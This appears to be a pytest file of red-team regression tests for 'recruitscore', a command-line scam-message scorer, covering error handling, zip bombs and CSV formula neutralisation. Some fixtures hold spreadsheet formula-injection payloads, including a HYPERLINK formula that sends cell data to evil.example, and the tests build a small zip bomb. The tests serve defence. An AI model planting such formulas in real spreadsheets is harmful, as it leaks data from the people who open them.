"""Bad input through the command line (red-team round 4): every command refuses what it cannot
read with one line and exit code 2, and never shifts, loses or leaks what it reads."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest
from click.testing import Result
from typer.testing import CliRunner

from recruitscore.cli import app
from recruitscore.model import default_model_path

from .assertions import sigterm_midway

runner = CliRunner()
LURE = "Please clone our repo and run it before our call. Do not mention this to your employer."


def run(*args: object, input: str | bytes | None = None) -> Result:
    return runner.invoke(app, [str(a) for a in args], input=input)


def one_error_line(result: Result) -> str:
    """The run failed with exit code 2 and exactly one line on stderr, no traceback."""
    assert result.exit_code == 2, (result.exit_code, result.stderr, result.exception)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
    assert lines[0].startswith("recruitscore: error: ")
    return lines[0]


# -- finding 1: a trailing delimiter must not shift the columns of the whole-file reader --------
def test_trailing_delimiter_is_refused_by_every_reader(tmp_path: Path) -> None:
    src = tmp_path / "t.csv"
    src.write_text(f"conv,message,label\nc1,{LURE},1,\nc2,hello,0,\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    out.write_text("sentinel\n", encoding="utf-8")
    plain = one_error_line(run("score", src, "-o", out))
    for args in (["score", src, "--conversation-col", "conv", "-o", out],
                 ["train", src, "-o", tmp_path / "m.npz"],
                 ["evaluate", src]):
        line = one_error_line(run(*args))
        assert line == plain, (args, line)
        assert "more fields than the header" in line
    assert out.read_text(encoding="utf-8") == "sentinel\n"
    assert not (tmp_path / "m.npz").exists()


# -- finding 3: formulas are neutralised in every CSV that inbox and --conversation-col write --
EXPORT = Path(__file__).resolve().parents[1] / "examples" / "linkedin-export"
FORMULAS = ("=HYPERLINK(", "=1+1", "@SUM(", "+CMD", "-2+3")


def _no_formula_cell(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    bad = [cell for row in rows for cell in row if cell and cell[0] in "=+-@\t\r"
           and not cell.lstrip("+-").replace(".", "", 1).isdigit()]
    assert not bad, (path.name, bad[:5])
    return rows


def test_inbox_outputs_neutralise_formulas(tmp_path: Path) -> None:
    src = tmp_path / "fx"
    src.mkdir()
    shutil.copy(EXPORT / "Profile.csv", src / "Profile.csv")
    with (EXPORT / "messages.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    head = rows[0]
    first = rows[1]
    first[head.index("CONTENT")] = '=HYPERLINK("http://evil.example/?"&A1,"Click") ' \
        "add me on whatsapp"
    first[head.index("CONVERSATION TITLE")] = "=1+1 title"
    first[head.index("FROM")] = "@SUM(1+1) " + first[head.index("FROM")]
    with (src / "messages.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    out = tmp_path / "out"
    result = run("inbox", src / "messages.csv", "-o", out, "-q", "--me", "Claire Dubois")
    assert result.exit_code == 0, result.stderr
    messages = _no_formula_cell(out / "messages.csv")
    conversations = _no_formula_cell(out / "conversations.csv")
    text = "\n".join(",".join(r) for r in messages + conversations)
    for shown in ("'=HYPERLINK(", "'=1+1 title", "'@SUM(1+1)"):
        assert shown in text, shown


def test_conversation_col_output_neutralises_formulas(tmp_path: Path) -> None:
    src = tmp_path / "c.csv"
    src.write_text('conv,message\n"=HYPERLINK(""http://evil.example"",""x"")",add me on whatsapp\n'
                   "@evil,hello\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    result = run("score", src, "--conversation-col", "conv", "-q", "-o", out)
    assert result.exit_code == 0, result.stderr
    rows = _no_formula_cell(out)
    ids = {r[0] for r in rows[1:]}
    assert ids == {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@evil"}
    stdout = run("score", src, "--conversation-col", "conv", "-q")
    assert stdout.exit_code == 0 and "'=HYPERLINK(" in stdout.stdout


# -- finding 4: no traceback for non-object JSON lines, header-only threads, odd manifests ------
@pytest.mark.parametrize("line", ["[1]", "5", "null", '"text"', "[]"])
def test_jsonl_line_that_is_not_an_object_is_one_error_line(tmp_path: Path, line: str) -> None:
    src = tmp_path / "x.jsonl"
    src.write_text(f'{{"message": "{LURE}", "label": 1, "conv": "c"}}\n{line}\n',
                   encoding="utf-8")
    for args in (["train", src, "-o", tmp_path / "m.npz"], ["evaluate", src],
                 ["score", src, "--conversation-col", "conv"]):
        err = one_error_line(run(*args))
        assert "line 2: expected a JSON object" in err, (args, err)
    # plain score keeps the row and says why, as before
    result = run("score", src, "-q")
    assert result.exit_code == 0
    rows = [json.loads(x) for x in result.stdout.splitlines()]
    assert len(rows) == 2 and "expected a JSON object" in rows[1]["error"]


def test_header_only_csv_with_conversation_col_writes_an_empty_table(tmp_path: Path) -> None:
    src = tmp_path / "h.csv"
    src.write_text("conv,message\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    result = run("score", src, "--conversation-col", "conv", "-o", out)
    assert result.exit_code == 0, (result.stderr, result.exception)
    assert "Traceback" not in result.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 1 and lines[0].startswith("conversation_id,")


@pytest.fixture
def shipped_copy(tmp_path: Path) -> Path:
    src = default_model_path()
    dst = tmp_path / "copy.npz"
    shutil.copy(src, dst)
    shutil.copy(src.with_suffix(".json"), dst.with_suffix(".json"))
    return dst


@pytest.mark.parametrize("key", ["versions", "training", "evaluation"])
def test_manifest_field_of_the_wrong_type_is_refused(tmp_path: Path, shipped_copy: Path,
                                                     key: str) -> None:
    manifest_path = shipped_copy.with_suffix(".json")
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest[key] = ["not", "an", "object"]
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    labelled = tmp_path / "lab.csv"
    labelled.write_text(f'message,label\n"{LURE}",1\nSenior engineer role salary 60k,0\n',
                        encoding="utf-8")
    for args in (["info", "--model", shipped_copy],
                 ["evaluate", labelled, "--model", shipped_copy, "--report", tmp_path / "r"]):
        err = one_error_line(run(*args))
        assert f"{key!r} must be a JSON object" in err, err
    assert not (tmp_path / "r").exists()


# -- finding 8: duplicate columns are refused whatever the line ends or the header's size -------
@pytest.mark.parametrize("name,data", [
    ("cr.csv", b"id,message,message\r1,hi,Add me on WhatsApp and keep it between us\r"),
    ("crlf.csv", b"id,message,message\r\n1,hi,Add me on WhatsApp\r\n"),
    ("huge.csv", b"id,message," + b"x" * 200_000 + b",message\n1,hi,a,Add me on WhatsApp\n"),
])
def test_duplicate_message_column_is_refused(tmp_path: Path, name: str, data: bytes) -> None:
    src = tmp_path / name
    src.write_bytes(data)
    for args in (["score", src], ["campaigns", src],
                 ["score", src, "--conversation-col", "id"]):
        err = one_error_line(run(*args))
        assert "duplicate column name(s)" in err and "'message'" in err, (args, err)


def test_two_label_columns_are_refused_by_train_and_evaluate(tmp_path: Path) -> None:
    src = tmp_path / "d.csv"
    src.write_text(f'message,label,label\n"{LURE}",1,0\nhello there,0,1\n', encoding="utf-8")
    for args in (["train", src, "-o", tmp_path / "m.npz"], ["evaluate", src]):
        err = one_error_line(run(*args))
        assert "duplicate column name(s)" in err and "'label'" in err, (args, err)
    err = one_error_line(run("evaluate", src, "--no-header", "--columns", "message,label,label"))
    assert "'label'" in err


def test_lone_cr_line_ends_are_read_by_every_reader(tmp_path: Path) -> None:
    src = tmp_path / "mac.csv"
    src.write_bytes(b'id,message\r1,Add me on WhatsApp\r2,"two\rlines"\r')
    plain = run("score", src, "-q")
    assert plain.exit_code == 0, plain.stderr
    assert [r["id"] for r in csv.DictReader(io.StringIO(plain.stdout))] == ["1", "2"]
    threads = run("score", src, "-q", "--conversation-col", "id")
    assert threads.exit_code == 0, threads.stderr
    assert sorted(r["conversation_id"] for r in csv.DictReader(io.StringIO(threads.stdout))) \
        == ["1", "2"]


# -- finding 9: campaigns never writes over its input ------------------------------------------
@pytest.mark.parametrize("option", ["-o", "--summary", "--stix"])
def test_campaigns_refuses_to_write_over_its_input(tmp_path: Path, option: str) -> None:
    src = tmp_path / "in.csv"
    text = f'id,message\n1,"{LURE}"\n2,=1+1 add me on whatsapp\n'
    src.write_text(text, encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(src)
    hard = tmp_path / "hard.csv"
    os.link(src, hard)
    for target in (src, link, hard):
        err = one_error_line(run("campaigns", src, option, target, "-q"))
        assert "is the input file" in err, err
        assert src.read_text(encoding="utf-8") == text


# -- finding 6: SIGTERM stops every command as Ctrl-C does, leaving nothing behind --------------
def test_sigterm_during_campaigns_leaves_nothing(tmp_path: Path) -> None:
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    status, err = sigterm_midway(
        ["campaigns", "-", "-o", str(out_dir / "camp.csv"), "--summary", str(out_dir / "sum.csv"),
         "--chunk-size", "2000", "-q", "--jobs", "1"],
        lambda: any(tmp.glob("recruitscore-campaigns-*/.scored.csv.*.part"))
        and any(out_dir.glob(".camp.csv.*.part")), env={"TMPDIR": str(tmp)})
    assert status == 128 + signal.SIGTERM
    assert err.strip() == "recruitscore: interrupted", err
    assert not list(out_dir.iterdir()), list(out_dir.iterdir())
    assert not list(tmp.iterdir()), list(tmp.iterdir())


def test_folder_of_a_killed_campaigns_run_is_removed(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    left = tmp_path / f"recruitscore-campaigns-{dead.pid}-abcd1234"
    left.mkdir()
    (left / "scored.csv").write_text("every message with its risk", encoding="utf-8")
    alive = tmp_path / f"recruitscore-campaigns-{os.getpid()}-abcd1234"
    alive.mkdir()
    src = tmp_path / "in.csv"
    src.write_text(f'id,message\n1,"{LURE}"\n', encoding="utf-8")
    result = run("campaigns", src, "-o", tmp_path / "out.csv", "-q", "--jobs", "1")
    assert result.exit_code == 0, result.stderr
    assert list(tmp_path.glob("recruitscore-campaigns-*")) == [alive]  # and none of this run


_STOP_INSIDE = """
import os, signal, sys
import recruitscore.cli as cli
import recruitscore.inbox as inbox

def stop(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGTERM)
    raise AssertionError("SIGTERM did not stop the run")

cli._read = stop
inbox.score_inbox = stop
sys.argv = ["recruitscore", *sys.argv[1:]]
cli.main()
"""


@pytest.mark.parametrize("command", ["train", "evaluate", "inbox"])
def test_sigterm_stops_in_memory_commands_with_one_line(tmp_path: Path, command: str) -> None:
    src = tmp_path / "lab.csv"
    src.write_text(f'message,label\n"{LURE}",1\n', encoding="utf-8")
    args = {"train": ["train", str(src), "-o", str(tmp_path / "m.npz")],
            "evaluate": ["evaluate", str(src)],
            "inbox": ["inbox", str(src), "-o", str(tmp_path / "ib")]}[command]
    proc = subprocess.run([sys.executable, "-c", _STOP_INSIDE, *args], capture_output=True,
                          text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert proc.returncode == 128 + signal.SIGTERM, (proc.returncode, proc.stderr)
    assert proc.stderr.strip() == "recruitscore: interrupted", proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["lab.csv"]


# -- finding 2: JSON Lines rows with many different keys keep memory and output flat -----------
def _sparse(path: Path, rows: int, keys: int) -> None:
    path.write_text("".join(json.dumps({"id": i, "message": "hello, add me on telegram",
                                        f"k{i % keys}": i}) + "\n" for i in range(rows)),
                    encoding="utf-8")


def test_sparse_jsonl_output_keeps_only_each_rows_keys(tmp_path: Path) -> None:
    src = tmp_path / "keys.jsonl"
    _sparse(src, 600, 300)
    with src.open("a", encoding="utf-8") as fh:
        fh.write('{"id": "n", "message": "hi", "k1": null}\n[1]\n')
    result = run("score", src, "-q", "--chunk-size", "100")
    assert result.exit_code == 0, result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(rows) == 602 and [r.get("id") for r in rows[:600]] == list(range(600))
    score_cols = ["risk", "band", "flagged", "signals", "reasons", "error"]
    for i, row in enumerate(rows[:600]):
        assert list(row) == ["id", "message", f"k{i % 300}", *score_cols], row
    assert rows[600]["k1"] is None and "k2" not in rows[600]  # an explicit null is kept
    assert "expected a JSON object" in rows[601]["error"]


def test_sparse_jsonl_chunks_stay_small(monkeypatch: pytest.MonkeyPatch) -> None:
    from recruitscore import io as rio

    monkeypatch.setattr(rio, "MAX_CHUNK_CELLS", 1_000)
    data = "".join(json.dumps({"message": "m", f"k{i}": i}) + "\n" for i in range(2_000))
    stream = rio.DecodedStream(io.BytesIO(data.encode()))
    chunks = list(rio.iter_jsonl_chunks(stream, chunk_size=10_000))
    assert sum(len(c.frame) for c in chunks) == 2_000
    for c in chunks:
        assert (len(c.frame) - 1) * (len(c.frame.columns) - 1) < 1_000  # one row over at most
        assert len(c.frame.columns) == len(c.frame) + 1  # message and its rows' own keys


def test_sparse_jsonl_to_csv_keeps_the_first_rows_header(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    from recruitscore import io as rio

    monkeypatch.setattr(rio, "MAX_CHUNK_CELLS", 1_000)
    src = tmp_path / "keys.jsonl"
    _sparse(src, 600, 300)
    out = tmp_path / "out.csv"
    result = run("score", src, "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))
    assert len(table) == 601 and [r[0] for r in table[1:]] == [str(i) for i in range(600)]
    assert len(table[0]) < 60  # the first chunk's keys, not all 300
    warnings = result.stderr.strip().splitlines()
    assert 1 <= len(warnings) <= 4 and "left out" in warnings[-1]


def test_sparse_jsonl_read_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("recruitscore.tables.MAX_SPARSE_CELLS", 10_000)
    src = tmp_path / "keys.jsonl"
    _sparse(src, 600, 300)
    threads = run("score", src, "--conversation-col", "id", "-q")  # reads only what it needs
    assert threads.exit_code == 0, threads.stderr
    assert threads.stdout.splitlines()[0].startswith("conversation_id,")
    assert len(threads.stdout.splitlines()) == 601
    err = one_error_line(run("evaluate", src))
    assert "mostly empty" in err and "302 different keys" in err


# -- finding 5: inbox refuses a zip bomb before unpacking it ------------------------------------
def test_inbox_refuses_a_zip_that_decompresses_too_far(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("recruitscore.conversations.MAX_EXPORT_BYTES", 20_000)
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf, \
            zf.open("messages.csv", "w") as fh:
        fh.write((EXPORT / "messages.csv").read_bytes())
        fh.write(b"\x00" * 100_000)  # 100 kB of zeros: a few hundred bytes compressed
    assert bomb.stat().st_size < 20_000
    err = one_error_line(run("inbox", bomb, "-o", tmp_path / "out"))
    assert "messages.csv decompresses to more than 20,000 bytes" in err
    assert not (tmp_path / "out").exists()
    # the same budget covers Profile.csv and Connections.csv
    several = tmp_path / "several.zip"
    with zipfile.ZipFile(several, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("messages.csv", (EXPORT / "messages.csv").read_bytes())
        zf.writestr("Profile.csv", (EXPORT / "Profile.csv").read_bytes() + b"\x00" * 20_000)
    assert "Profile.csv decompresses" in one_error_line(run("inbox", several, "-o",
                                                            tmp_path / "out"))
    # a normal export still reads
    ok = tmp_path / "ok.zip"
    with zipfile.ZipFile(ok, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("messages.csv", (EXPORT / "messages.csv").read_bytes())
    assert run("inbox", ok, "-o", tmp_path / "out", "-q", "--me", "Claire Dubois").exit_code == 0


def test_inbox_refuses_a_zip_with_too_many_members(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("recruitscore.conversations.MAX_EXPORT_MEMBERS", 10)
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as zf:
        zf.writestr("messages.csv", (EXPORT / "messages.csv").read_bytes())
        for i in range(20):
            zf.writestr(f"x/{i}.txt", b"")
    err = one_error_line(run("inbox", many, "-o", tmp_path / "out"))
    assert "lists 21 files (at most 10)" in err


# -- finding 10: clear one-line messages, and a quiet end when the reader of stdout goes away --
@pytest.mark.parametrize("name,data,expected", [
    ("bom16.csv", "id,message\n1,hello\n".encode("utf-16"), "is UTF-16"),
    ("le16.csv", "id,message\n1,hello\n".encode("utf-16-le"), "looks like UTF-16"),
    ("be16.csv", "id,message\n1,hello\n".encode("utf-16-be"), "looks like UTF-16"),
    ("zipped.csv", gzip.compress(b"id,message\n1,hello\n"), "is gzip-compressed"),
])
def test_utf16_and_gzip_input_are_named(tmp_path: Path, name: str, data: bytes,
                                        expected: str) -> None:
    src = tmp_path / name
    src.write_bytes(data)
    for args in (["score", src], ["score", src, "--encoding-errors", "replace"],
                 ["campaigns", src], ["evaluate", src],
                 ["score", src, "--conversation-col", "id"]):
        assert expected in one_error_line(run(*args)), args
    assert expected in one_error_line(run("score", "-", input=data))


def test_nul_bytes_inside_utf8_text_are_still_read(tmp_path: Path) -> None:
    src = tmp_path / "nul.csv"
    src.write_bytes(b"id,message\n1,add me\x00 on whatsapp\n2,\x00\x00\x00\x00\n")
    result = run("score", src, "-q")
    assert result.exit_code == 0, result.stderr
    assert len(result.stdout.splitlines()) == 3


@pytest.mark.parametrize("data,expected", [
    (b'{"id": 1, "message": "hi"}\r{"id": 2, "message": "yo"}\r', "lone CR"),
    (b"id,message\n1,hello\n", "no line is a JSON object"),
    (b"[1]\n5\nnull\n", "no line is a JSON object"),
])
def test_jsonl_without_any_object_says_so(tmp_path: Path, data: bytes, expected: str) -> None:
    src = tmp_path / "x.jsonl"
    src.write_bytes(data)
    err = one_error_line(run("score", src))
    assert expected in err and "no 'message' column" not in err, err
    if expected == "lone CR":
        assert "lone CR" in one_error_line(run("evaluate", src))


def test_missing_model_named_by_the_environment(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RECRUITSCORE_MODEL", str(tmp_path / "missing.npz"))
    err = one_error_line(run("info"))
    assert "RECRUITSCORE_MODEL" in err and "reinstall" not in err


def test_inbox_on_a_directory_says_so(tmp_path: Path) -> None:
    err = one_error_line(run("inbox", tmp_path, "-o", tmp_path / "out"))
    assert "is a directory" in err


def test_unreadable_paths_are_one_line_not_a_usage_box(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    # as an unprivileged user sees a file without read permission (tests may run as root)
    real_open = open

    def refuse(path: object, *args: object, **kwargs: object) -> object:
        if str(path).startswith(str(tmp_path)):
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(os, "access", lambda *args, **kwargs: False)
    src = tmp_path / "lab.csv"
    src.write_text(f'message,label\n"{LURE}",1\n', encoding="utf-8")
    model = tmp_path / "m.npz"
    shutil.copy(default_model_path(), model)
    shutil.copy(default_model_path().with_suffix(".json"), model.with_suffix(".json"))
    monkeypatch.setattr(Path, "read_bytes", lambda self: refuse(self))
    monkeypatch.setattr(Path, "open", lambda self, *a, **k: refuse(self, *a, **k))
    for args in (["train", src, "-o", tmp_path / "out.npz"], ["evaluate", src],
                 ["inbox", src, "-o", tmp_path / "ib"], ["info", "--model", model]):
        result = run(*args)
        assert "Usage" not in result.stderr and "╭" not in result.stderr, (args, result.stderr)
        err = one_error_line(result)
        assert "Permission denied" in err or "not readable" in err or "cannot" in err, err


def test_a_closed_stdout_ends_score_quietly(tmp_path: Path) -> None:
    src = tmp_path / "big.csv"
    src.write_text("id,message\n" + "".join(f"{i},Add me on WhatsApp please number {i}\n"
                                            for i in range(6_000)), encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "recruitscore", "score", str(src), "-q",
                             "--jobs", "1"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert proc.stdout is not None and proc.stderr is not None
    first = proc.stdout.readline()
    assert first.startswith(b"id,message,risk"), proc.stderr.read()
    proc.stdout.close()  # as `| head -1` does
    err = proc.stderr.read().decode()
    proc.stderr.close()
    assert proc.wait(timeout=120) == 128 + signal.SIGPIPE
    assert err == "", err


# -- follow-ups: --no-sanitize-formulas, campaigns JSON Lines, out of memory -------------------
def test_conversation_col_honours_no_sanitize_formulas(tmp_path: Path) -> None:
    src = tmp_path / "c.csv"
    src.write_text("conv,message\n=1+1,add me on whatsapp\n", encoding="utf-8")
    result = run("score", src, "--conversation-col", "conv", "-q", "--no-sanitize-formulas")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[1].startswith("=1+1,")


def test_campaigns_jsonl_rows_keep_only_their_own_keys(tmp_path: Path) -> None:
    src = tmp_path / "keys.jsonl"
    _sparse(src, 200, 100)
    result = run("campaigns", src, "-q", "--jobs", "1")
    assert result.exit_code == 0, result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["id"] for r in rows] == list(range(200))
    for i, row in enumerate(rows):
        assert [k for k in row if k.startswith("k")] == [f"k{i % 100}"], row


def test_out_of_memory_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def exhausted(*args: object, **kwargs: object) -> None:
        raise MemoryError

    monkeypatch.setattr("recruitscore.cli._read", exhausted)
    src = tmp_path / "lab.csv"
    src.write_text(f'message,label\n"{LURE}",1\n', encoding="utf-8")
    assert "out of memory" in one_error_line(run("evaluate", src))


# -- review16's leftovers (rule R22-A) ----------------------------------------------------------
def test_explain_stdin_is_decoded_as_files_are() -> None:
    """Standard input gets the file readers' checks: UTF-16 and gzip are named, other bytes
    that are not UTF-8 give their offset, a byte-order mark is dropped."""
    utf16 = "Add me on WhatsApp".encode("utf-16")
    assert "standard input is UTF-16" in one_error_line(run("explain", "-", input=utf16))
    packed = gzip.compress(b"Add me on WhatsApp")
    assert "gzip-compressed" in one_error_line(run("explain", "-", input=packed))
    latin1 = "Café : écrivez-moi sur WhatsApp".encode("latin-1")
    err = one_error_line(run("explain", "-", input=latin1))
    assert "not valid utf-8 (undecodable byte at offset 3)" in err  # score's wording
    replaced = run("explain", "-", "--json", "--encoding-errors", "replace", input=latin1)
    assert replaced.exit_code == 0, replaced.stderr
    assert "off_platform_request" in replaced.stdout
    assert "replaced 2 undecodable byte sequence(s)" in replaced.stderr
    ignored = run("explain", "-", "--encoding-errors", "ignore", input=latin1)
    assert ignored.exit_code == 2 and "ignore" in ignored.stderr  # strict or replace, as score
    bom = run("explain", "-", "--json", input="\ufeffAdd me on WhatsApp".encode())
    assert json.loads(bom.stdout)["signals"][0]["evidence"][0]["start"] == 10


def test_evaluate_report_on_a_file_is_refused_before_work(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("the data was read")

    monkeypatch.setattr("recruitscore.cli._read", never)
    (tmp_path / "rep.txt").write_text("keep me", encoding="utf-8")
    err = one_error_line(run("evaluate", tmp_path / "lab.csv", "--report", tmp_path / "rep.txt"))
    assert "--report names a folder" in err and "is a file" in err
    assert (tmp_path / "rep.txt").read_text(encoding="utf-8") == "keep me"
    # a link to nothing, a path under a file, a report.html that is a folder (review19)
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    assert "link to nothing" in one_error_line(
        run("evaluate", tmp_path / "lab.csv", "--report", tmp_path / "dangling"))
    assert "is a file, not a folder" in one_error_line(
        run("evaluate", tmp_path / "lab.csv", "--report", tmp_path / "rep.txt" / "sub"))
    (tmp_path / "r" / "report.html").mkdir(parents=True)
    assert "is a folder" in one_error_line(
        run("evaluate", tmp_path / "lab.csv", "--report", tmp_path / "r"))
    # below a link to nothing, for --report and for inbox -o (review21, R22-I)
    assert "link to nothing" in one_error_line(
        run("evaluate", tmp_path / "lab.csv", "--report", tmp_path / "dangling" / "sub"))
    export = Path(__file__).resolve().parents[1] / "examples" / "linkedin-export"
    assert "link to nothing" in one_error_line(
        run("inbox", export / "messages.csv", "-o", tmp_path / "dangling" / "sub"))


def test_explain_with_standard_input_closed_is_one_line() -> None:
    done = subprocess.run([sys.executable, "-m", "recruitscore", "explain", "-"],
                          capture_output=True, text=True, timeout=120, check=False,
                          preexec_fn=lambda: os.close(0))  # as `explain - <&-`
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip().splitlines() == [
        "recruitscore: error: standard input is closed; give the message or pipe it in"]


@pytest.mark.parametrize("command", ["train", "evaluate", "inbox"])
def test_other_outputs_name_the_output_not_a_temporary_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    """inbox, train -o and evaluate --report write through their own temporary files too."""
    import tempfile

    real_mkstemp, real_open = tempfile.mkstemp, os.open

    def refused_mkstemp(*args: object, **kw: str) -> tuple[int, str]:
        if str(kw.get("dir", "")).startswith(str(tmp_path / "out")):
            raise PermissionError(13, "Permission denied", f"{kw['dir']}/.tmp123.tmp")
        return real_mkstemp(*args, **kw)  # type: ignore[arg-type]

    def refused_open(path: str, *args: object, **kw: object) -> int:
        if str(path).endswith((".tmp", ".part")) and str(path).startswith(str(tmp_path / "out")):
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(tempfile, "mkstemp", refused_mkstemp)
    monkeypatch.setattr(os, "open", refused_open)
    lab = tmp_path / "lab.csv"
    lab.write_text("message,label\n" + f'"{LURE}",1\n"Senior engineer role, salary 60k",0\n'
                   * 20, encoding="utf-8")
    (tmp_path / "out").mkdir()
    export = Path(__file__).resolve().parents[1] / "examples" / "linkedin-export"
    args = {"train": ("train", lab, "-o", tmp_path / "out" / "m.npz"),
            "evaluate": ("evaluate", lab, "--report", tmp_path / "out"),
            "inbox": ("inbox", export / "messages.csv", "-o", tmp_path / "out")}[command]
    err = one_error_line(run(*args))
    assert "Permission denied" in err and ".tmp" not in err and ".part" not in err, err
    assert str(tmp_path / "out") in err, err


@pytest.mark.parametrize("step", ["create", "replace"])
def test_unwritable_output_names_the_output_not_its_temporary_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str) -> None:
    import recruitscore.io as rio

    real_replace, real_open = os.replace, os.open

    def refused(path: str, *args: object, **kw: object) -> int:  # naming the temporary file
        if str(path).endswith(".part"):
            raise PermissionError(13, "Permission denied", path)
        return real_open(path, *args, **kw)  # type: ignore[arg-type]

    def replace(src: str, dst: str) -> None:
        if str(src).endswith(".part"):
            raise PermissionError(13, "Permission denied", src, None, dst)
        real_replace(src, dst)

    if step == "create":
        monkeypatch.setattr(rio.os, "open", refused)
    else:
        monkeypatch.setattr(rio.os, "replace", replace)
    src = tmp_path / "in.csv"
    src.write_text("id,message\n1,hello\n", encoding="utf-8")
    err = one_error_line(run("score", src, "-o", tmp_path / "out.csv", "-q", "-j1"))
    assert "Permission denied" in err and ".part" not in err, err
    assert str(tmp_path / "out.csv") in err, err
    assert not (tmp_path / "out.csv").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]  # no temporary file left


def test_unreadable_dates_are_noted_not_dropped_silently(tmp_path: Path) -> None:
    src = tmp_path / "conv.csv"
    src.write_text("conv,message,date\nc1,Add me on WhatsApp,2024-01-01\n"
                   "c1,my client pays per report,notadate\nc2,hello,2024-13-45\nc2,bye,\n",
                   encoding="utf-8")
    result = run("score", src, "--conversation-col", "conv", "--date-col", "date", "-q", "-j1")
    assert result.exit_code == 0, result.stderr
    rows = {r["conversation_id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    note = "1 date could not be read; placed after the dated messages"
    assert rows["c1"]["notes"] == note
    assert rows["c2"]["notes"] == note  # an empty date is missing, not unreadable
    assert rows["c1"]["first_date"].startswith("2024-01-01")
